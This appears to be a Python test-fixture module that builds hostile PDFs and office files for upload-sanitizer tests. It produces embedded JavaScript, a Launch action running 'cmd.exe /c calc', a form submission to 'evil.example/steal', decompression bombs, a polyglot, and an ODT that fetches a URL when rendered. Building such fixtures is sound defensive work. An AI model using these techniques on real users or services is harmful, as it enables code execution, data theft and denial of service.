"""Real files for upload tests: hostile PDFs built with pikepdf, and minimal office documents
(OOXML / OpenDocument zips as Word, Excel and LibreOffice write them, reduced to what they need)."""
import io
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String

TEXT = "Bao cao tong ket quy III"


def _save(pdf: pikepdf.Pdf, **kwargs) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **kwargs)
    return out.getvalue()


def text_pdf(pages: int = 1, text: str = TEXT) -> pikepdf.Pdf:
    """A PDF with readable text on every page (Helvetica, ASCII), as pdftotext will read it."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for n in range(pages):
        content = pdf.make_stream(f"BT /F1 18 Tf 72 760 Td ({text} - trang {n + 1}) Tj ET".encode())
        page = pikepdf.Page(Dictionary(Type=Name.Page, MediaBox=Array([0, 0, 595, 842]), Contents=content,
                                       Resources=Dictionary(Font=Dictionary(F1=font))))
        pdf.pages.append(page)
    return pdf


def plain() -> bytes:
    return _save(text_pdf())


def with_javascript() -> bytes:
    pdf = text_pdf()
    js = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert('pwned-js')")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), js])))
    return _save(pdf)


def with_open_action() -> bytes:
    pdf = text_pdf()
    pdf.Root.OpenAction = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://evil.example/steal")))
    return _save(pdf)


def with_page_aa_and_js_link() -> bytes:
    pdf = text_pdf()
    page = pdf.pages[0].obj
    page.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("this.print('pwned-aa')")))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 700, 300, 720]),
                      A=Dictionary(S=Name.URI, URI=String("javascript:alert('pwned-uri')")))
    good = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 650, 300, 670]),
                      A=Dictionary(S=Name.URI, URI=String("https://thuvienphapluat.vn/")))
    page.Annots = Array([pdf.make_indirect(link), pdf.make_indirect(good)])
    return _save(pdf)


def with_launch() -> bytes:
    pdf = text_pdf()
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 700, 300, 720]),
                      A=Dictionary(S=Name.Launch, F=String("cmd.exe"), P=String("/c calc")))
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])
    return _save(pdf)


PAYLOAD = b"SECRET-ATTACHMENT-PAYLOAD " * 20


def with_embedded_file() -> bytes:
    pdf = text_pdf()
    pdf.attachments["danh-sach.txt"] = pikepdf.AttachedFileSpec(pdf, PAYLOAD, mime_type="text/plain")
    # And one as a paperclip on the page, as Acrobat makes it.
    spec = pikepdf.AttachedFileSpec(pdf, PAYLOAD, mime_type="text/plain").obj
    clip = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([10, 10, 30, 30]), FS=spec)
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(clip)])
    return _save(pdf, compress_streams=False)


def with_xfa(dynamic: bool = False) -> bytes:
    pdf = text_pdf()
    xfa = pdf.make_stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>pwned-xfa</template></xdp:xdp>')
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa)
    if dynamic:
        pdf.Root.NeedsRendering = True
    return _save(pdf, compress_streams=False)


def polyglot_html() -> bytes:
    return b"<html><script>alert(1)</script></html>\n" + plain()


def pdf_with_zip_tail() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("payload.exe", b"MZ-ZIP-TAIL-PAYLOAD")
    return plain() + buf.getvalue()


def flate_bomb(decoded: int = 1 << 30) -> bytes:
    """About decoded/1000 bytes of PDF whose one stream inflates to `decoded` bytes of zeros."""
    z = zlib.compressobj(9)
    chunk = bytes(1 << 20)
    parts = [z.compress(chunk) for _ in range(decoded // len(chunk))]
    parts.append(z.flush())
    pdf = text_pdf()
    bomb = pikepdf.Stream(pdf, b"".join(parts))
    bomb.Filter = Name.FlateDecode
    pdf.pages[0].obj.Resources.XObject = Dictionary(Bomb=pdf.make_indirect(
        Dictionary(Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 1, 1]))))
    pdf.Root.Bomb = bomb  # reachable, so qpdf keeps it
    return _save(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def objstm_bomb(padding: int) -> bytes:
    """Catalog and page tree inside a Flate object stream padded with `padding` spaces: qpdf inflates
    it while parsing, before any of our code sees a stream (written by hand: pikepdf builds object
    streams only from its own objects)."""
    objs = [b"<< /Type /Catalog /Pages 3 0 R >>", b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>"]
    header, body, off = b"", b"", 0
    for num, o in zip((2, 3), objs):
        header += b"%d %d " % (num, off)
        body += o + b"\n"
        off += len(o) + 1
    first = len(header)
    z = zlib.compressobj(9)
    comp = z.compress(header + body)
    chunk = b" " * (1 << 20)
    for _ in range(padding // len(chunk)):
        comp += z.compress(chunk)
    comp += z.flush()
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    offsets[1] = len(out)
    out += b"1 0 obj\n<< /Type /ObjStm /N 2 /First %d /Length %d /Filter /FlateDecode >>\nstream\n" % (first, len(comp))
    out += comp + b"\nendstream\nendobj\n"
    offsets[4] = len(out)
    out += b"4 0 obj\n<< /Type /Page /Parent 3 0 R /MediaBox [0 0 595 842] >>\nendobj\n"
    offsets[5] = len(out)
    rows = [b"\x00" + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big"),
            b"\x01" + offsets[1].to_bytes(4, "big") + b"\x00\x00",
            b"\x02" + (1).to_bytes(4, "big") + (0).to_bytes(2, "big"),
            b"\x02" + (1).to_bytes(4, "big") + (1).to_bytes(2, "big"),
            b"\x01" + offsets[4].to_bytes(4, "big") + b"\x00\x00",
            b"\x01" + offsets[5].to_bytes(4, "big") + b"\x00\x00"]
    xref = b"".join(rows)
    out += b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 2 0 R /Length %d >>\nstream\n" % len(xref)
    out += xref + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[5]
    return bytes(out)


def many_streams(count: int, each: int) -> bytes:
    """`count` Flate streams of `each` decoded bytes: small alone, large together."""
    pdf = text_pdf()
    streams = []
    for _ in range(count):
        s = pikepdf.Stream(pdf, zlib.compress(bytes(each), 9))
        s.Filter = Name.FlateDecode
        streams.append(pdf.make_indirect(s))
    pdf.Root.Extra = Array(streams)
    return _save(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def huge_image(width: int = 100_000, height: int = 100_000) -> bytes:
    pdf = text_pdf()
    image = pikepdf.Stream(pdf, zlib.compress(b"\xff" * 300))
    for key, value in dict(Type=Name.XObject, Subtype=Name.Image, Width=width, Height=height,
                           ColorSpace=Name.DeviceRGB, BitsPerComponent=8, Filter=Name.FlateDecode).items():
        image[f"/{key}"] = value
    pdf.pages[0].obj.Resources.XObject = Dictionary(Im0=pdf.make_indirect(image))
    return _save(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def encrypted(owner_only: bool = False) -> bytes:
    user = "" if owner_only else "1234"
    return _save(text_pdf(), encryption=pikepdf.Encryption(user=user, owner="quan-tri"))


# --- office documents ---------------------------------------------------------------------------

def _zip(members: list[tuple[str, str | bytes]], stored_first: bool = False) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for i, (name, body) in enumerate(members):
            kind = zipfile.ZIP_STORED if stored_first and i == 0 else zipfile.ZIP_DEFLATED
            z.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), body, compress_type=kind)
    return buf.getvalue()


_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org'
         '/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
         '2006/relationships/officeDocument" Target="{target}"/></Relationships>')
_TYPES = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/'
          'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
          'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>{overrides}</Types>')


def docx(paragraphs: list[str]) -> bytes:
    body = "".join(f"<w:p><w:r><w:t>{p}</w:t></w:r></w:p>" for p in paragraphs)
    return _zip([
        ("[Content_Types].xml", _TYPES.format(overrides='<Override PartName="/word/document.xml" ContentType="application/'
                                                        'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>')),
        ("_rels/.rels", _RELS.format(target="word/document.xml")),
        ("word/document.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://'
                              f'schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{body}</w:body></w:document>'),
    ])


def xlsx(rows: list[list[str]]) -> bytes:
    cells = "".join(
        f'<row r="{r + 1}">' + "".join(f'<c r="{chr(65 + c)}{r + 1}" t="inlineStr"><is><t>{v}</t></is></c>'
                                       for c, v in enumerate(row)) + "</row>"
        for r, row in enumerate(rows))
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rel_ns = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    return _zip([
        ("[Content_Types].xml", _TYPES.format(overrides=(
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'))),
        ("_rels/.rels", _RELS.format(target="xl/workbook.xml")),
        ("xl/workbook.xml", f'<?xml version="1.0" encoding="UTF-8"?><workbook {ns} {rel_ns}><sheets>'
                            '<sheet name="Bang1" sheetId="1" r:id="rId1"/></sheets></workbook>'),
        ("xl/_rels/workbook.xml.rels", _RELS.format(target="worksheets/sheet1.xml").replace(
            "relationships/officeDocument", "relationships/worksheet")),
        ("xl/worksheets/sheet1.xml", f'<?xml version="1.0" encoding="UTF-8"?><worksheet {ns}><sheetData>{cells}'
                                     '</sheetData></worksheet>'),
    ])


ODT_MIME = "application/vnd.oasis.opendocument.text"


def odt(paragraphs: list[str], extra_body: str = "") -> bytes:
    body = "".join(f"<text:p>{p}</text:p>" for p in paragraphs) + extra_body
    return _zip([
        ("mimetype", ODT_MIME),
        ("META-INF/manifest.xml", '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:'
                                  'names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry '
                                  f'manifest:full-path="/" manifest:media-type="{ODT_MIME}"/><manifest:file-entry '
                                  'manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'),
        ("content.xml", '<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:'
                        'opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
                        'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/'
                        '1999/xlink" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
                        f'office:version="1.2"><office:body><office:text>{body}</office:text></office:body>'
                        '</office:document-content>'),
    ], stored_first=True)


def odt_with_linked_image(url: str) -> bytes:
    """An ODT whose picture is a link: rendering it makes the converter fetch `url`."""
    frame = ('<text:p><draw:frame svg:width="5cm" svg:height="5cm" text:anchor-type="paragraph">'
             f'<draw:image xlink:href="{url}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>'
             '</draw:frame></text:p>')
    return odt(["Anh lien ket"], extra_body=frame)
